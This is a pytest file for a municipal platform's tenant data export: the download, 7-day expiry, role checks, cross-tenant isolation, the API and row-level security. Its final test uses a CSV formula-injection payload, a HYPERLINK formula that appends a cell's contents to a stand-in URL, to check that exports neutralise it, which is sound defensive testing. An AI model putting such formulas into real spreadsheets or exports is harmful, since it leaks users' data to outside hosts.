"""Starting an export, its job's progress and mail, the page and the API, the download and its 7 days."""

from __future__ import annotations

import io
import json
import zipfile
from datetime import timedelta

import pytest
from sqlalchemy import create_engine, select, text, update
from sqlalchemy.exc import ProgrammingError

from samverka.platform.core.extensions import db
from samverka.platform.core.tenancy.guard import bind_principal
from samverka.platform.core.tenancy.principal import Principal
from samverka.platform.core.time import utcnow
from samverka.platform.documents.storage import document_store
from samverka.platform.portability.catalogue import OWNED
from samverka.platform.portability.models import EXPIRED, FAILED, QUEUED, READY, ImportedOpenData, TenantExport
from samverka.platform.portability.tasks import expire_exports, send_export_email
from samverka.tenants.models import RoleAssignment
from samverka.tenants.services.principals import load_principal
from tests.jobs.harness import mails_to, part
from tests.platform.needs.support import register_need
from tests.platform.portability.factories import export_now, make_export, unzip
from tests.support import services as test_services
from tests.support.api import assert_error_shape, signed_in
from tests.support.forms import csrf_from
from tests.support.login import sign_in
from tests.support.rls import scope_connection

KONGSBERG_IT = "kongsb_it@example.test"


def _export(app, export_id: int) -> TenantExport:
    with app.app_context():
        bind_principal(db.session, Principal.system("test: read the export"))
        found = db.session.get(TenantExport, export_id)
        db.session.expunge(found)
        return found


def _system_update(app, export_id: int, **values) -> None:
    with app.app_context():
        bind_principal(db.session, Principal.system("test: age the export"))
        db.session.execute(update(TenantExport).where(TenantExport.id == export_id).values(**values))
        db.session.commit()


def test_the_it_coordinator_starts_an_export_and_downloads_it(app, client, tenant_a, smtp_server):
    register_need(app, tenant_a.people["it"], tenant_a.tenant_id, with_line=True)
    smtp_server.clear()
    client.set_cookie("samverka_lang", "en")
    sign_in(client, tenant_a.people["it"])
    page = f"/tenants/{tenant_a.tenant_id}/exports"
    municipality = client.get(f"/tenants/{tenant_a.tenant_id}").get_data(as_text=True)
    assert f'<a href="{page}">Export our data</a>' in municipality  # under "Our data" on the municipality's page
    answer = client.post(page, data={"csrf_token": csrf_from(client, page)})
    assert answer.status_code == 302
    (export,) = _exports_of(app, tenant_a.tenant_id)
    assert export.status == READY
    assert export.progress_done == export.progress_total == len(OWNED) + 1
    assert export.expires_at == export.finished_at + timedelta(days=7)
    shown = client.get(page).get_data(as_text=True)
    assert "Ready to download" in shown and f"/exports/{export.id}/download" in shown
    download = client.get(f"/exports/{export.id}/download")
    assert download.status_code == 200 and download.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(download.data)) as archive:
        manifest = json.loads(archive.read("manifest.json"))
    assert manifest["tenant"]["name"] == "Kongsberg"
    listed = {entry["path"] for entry in manifest["files"]}
    assert {"data/needs.json", "csv/needs.csv", "ocds/joint-procurements.json"} <= listed
    (mail,) = mails_to(smtp_server, KONGSBERG_IT)
    assert f"/tenants/{tenant_a.tenant_id}/exports" in part(mail, "text/plain")
    assert "Kongsberg" in mail["Subject"]
    with app.app_context():
        send_export_email(export.id)  # a retry of the mail job: the requester is told once
    assert len(mails_to(smtp_server, KONGSBERG_IT)) == 1


def _exports_of(app, tenant_id: int) -> list[TenantExport]:
    with app.app_context():
        bind_principal(db.session, Principal.system("test: read the exports"))
        found = list(db.session.scalars(select(TenantExport).where(TenantExport.tenant_id == tenant_id)))
        db.session.expunge_all()
        return found


def test_while_an_export_is_made_the_page_refreshes_and_a_second_is_refused(app, client, tenant_a):
    with app.app_context():
        bind_principal(db.session, Principal.system("test: a queued export"))
        db.session.add(TenantExport(tenant_id=tenant_a.tenant_id, requested_by_id=tenant_a.people["it"].user_id))
        db.session.commit()
    client.set_cookie("samverka_lang", "en")
    sign_in(client, tenant_a.people["it"])
    page = f"/tenants/{tenant_a.tenant_id}/exports"
    shown = client.get(page).get_data(as_text=True)
    assert 'http-equiv="refresh"' in shown and "Refresh now" in shown and "Waiting to start" in shown
    answer = client.post(page, data={"csrf_token": csrf_from(client, page)})
    assert answer.status_code == 409 and "already being made" in answer.get_data(as_text=True)
    assert [e.status for e in _exports_of(app, tenant_a.tenant_id)] == [QUEUED]


def test_after_7_days_the_download_is_gone_and_the_cleanup_deletes_the_archive(app, client, tenant_a):
    export_id = make_export(app, tenant_a)
    key = _export(app, export_id).storage_key
    _system_update(app, export_id, expires_at=utcnow() - timedelta(minutes=1))
    sign_in(client, tenant_a.people["it"])
    assert client.get(f"/exports/{export_id}/download").status_code == 410
    with app.app_context():
        expire_exports()
        with pytest.raises(FileNotFoundError):
            document_store().get(key)
    assert _export(app, export_id).status == EXPIRED


def test_the_job_fails_when_the_requester_lost_the_role(app, tenant_a):
    with app.app_context():
        bind_principal(db.session, Principal.system("test: a queued export"))
        export = TenantExport(tenant_id=tenant_a.tenant_id, requested_by_id=tenant_a.people["chief"].user_id)
        db.session.add(export)
        db.session.commit()
        export_id = export.id
    from samverka.platform.portability.tasks import build_export

    with app.app_context():
        build_export(export_id)
    found = _export(app, export_id)
    assert found.status == FAILED and found.storage_key is None and "no longer" in found.error


def test_the_chief_executive_may_not_export(app, client, tenant_a):
    sign_in(client, tenant_a.people["chief"])
    assert client.get(f"/tenants/{tenant_a.tenant_id}/exports").status_code == 403
    municipality = client.get(f"/tenants/{tenant_a.tenant_id}").get_data(as_text=True)
    assert municipality.count("<h1>") == 1 and f"/tenants/{tenant_a.tenant_id}/exports" not in municipality


def test_another_municipalitys_export_is_404_on_the_page_the_download_and_the_api(app, client, tenant_a, tenant_b):
    export_id = make_export(app, tenant_a)
    api = signed_in(client, tenant_b.people["it"])
    for path in (
        f"/tenants/{tenant_a.tenant_id}/exports",
        f"/exports/{export_id}/download",
        f"/api/v1/exports/{export_id}",
        f"/api/v1/tenants/{tenant_a.tenant_id}/exports",
    ):
        answer = client.get(path)
        assert answer.status_code == 404, path
        assert "Kongsberg" not in answer.get_data(as_text=True)
    assert_error_shape(api.post(f"/api/v1/tenants/{tenant_a.tenant_id}/exports", {}), 404)
    assert len(_exports_of(app, tenant_a.tenant_id)) == 1


def test_the_api_starts_an_export_and_answers_its_status(app, client, tenant_a):
    api = signed_in(client, tenant_a.people["it"])
    started = api.post(f"/api/v1/tenants/{tenant_a.tenant_id}/exports", {})
    assert started.status_code == 202, started.get_data(as_text=True)
    export_id = started.get_json()["id"]
    status = api.get(f"/api/v1/exports/{export_id}").get_json()
    assert status["status"] == READY and status["download_url"] == f"/exports/{export_id}/download"
    assert status["progress_done"] == status["progress_total"]
    listed = api.get(f"/api/v1/tenants/{tenant_a.tenant_id}/exports").get_json()
    assert [item["id"] for item in listed] == [export_id]
    refused = api.post(f"/api/v1/tenants/{tenant_a.tenant_id}/exports", {"everything": True})
    assert refused.status_code == 422


@pytest.mark.postgres
@pytest.mark.committed
def test_in_raw_sql_the_app_role_reads_no_other_municipalitys_exports_and_changes_none(app, tenant_a, tenant_b):
    make_export(app, tenant_a)
    make_export(app, tenant_b)
    engine = create_engine(test_services.app_url())
    try:
        with app.app_context():
            kongsberg_it = load_principal(db.session, tenant_a.people["it"].user_id)
        with engine.connect() as conn, conn.begin():
            scope_connection(conn, kongsberg_it)
            others = conn.execute(
                text("SELECT count(*) FROM tenant_exports WHERE tenant_id = :t"), {"t": tenant_b.tenant_id}
            ).scalar()
            own = conn.execute(
                text("SELECT count(*) FROM tenant_exports WHERE tenant_id = :t"), {"t": tenant_a.tenant_id}
            ).scalar()
            updated = conn.execute(text("UPDATE tenant_exports SET status = 'ready'")).rowcount
    finally:
        engine.dispose()
    assert (others, own, updated) == (0, 1, 0)


@pytest.mark.postgres
@pytest.mark.committed
def test_in_raw_sql_the_app_role_neither_writes_nor_reads_another_municipalitys_imported_open_data(app, tenant_a):
    with app.app_context():
        bind_principal(db.session, Principal.system("test: an import's open data"))
        db.session.add(ImportedOpenData(tenant_id=tenant_a.other_tenant_id, package={"releases": []}))
        db.session.commit()
        kongsberg_it = load_principal(db.session, tenant_a.people["it"].user_id)
    engine = create_engine(test_services.app_url())
    try:
        with engine.connect() as conn, conn.begin():
            scope_connection(conn, kongsberg_it)
            seen = conn.execute(text("SELECT count(*) FROM imported_open_data")).scalar()
            with pytest.raises(ProgrammingError, match="row-level security"):
                conn.execute(
                    text("INSERT INTO imported_open_data (tenant_id, package, imported_at) VALUES (:t, '{}', now())"),
                    {"t": tenant_a.tenant_id},
                )
    finally:
        engine.dispose()
    assert seen == 0


def test_the_role_assignment_is_what_the_job_checks(app, tenant_a):
    """The control of the refusal above: the IT coordinator's own export is made."""
    with app.app_context():
        bind_principal(db.session, Principal.system("test: roles"))
        roles = db.session.scalars(
            select(RoleAssignment.role).where(RoleAssignment.user_id == tenant_a.people["it"].user_id)
        ).all()
    assert roles == ["it_coordinator"]
    assert _export(app, make_export(app, tenant_a)).status == READY


def test_a_need_title_written_as_a_formula_is_text_in_the_archives_csv(app, tenant_a):
    hostile = '=HYPERLINK("https://example.invalid/?"&A1,"Klikk")'
    register_need(app, tenant_a.people["it"], tenant_a.tenant_id, title=hostile)
    files = unzip(export_now(app, tenant_a.tenant_id))
    table = files["csv/needs.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK" in table and ",=HYPERLINK" not in table and '"=HYPERLINK' not in table
    assert any(row["title"] == hostile for row in json.loads(files["data/needs.json"]))  # the data keeps it as typed
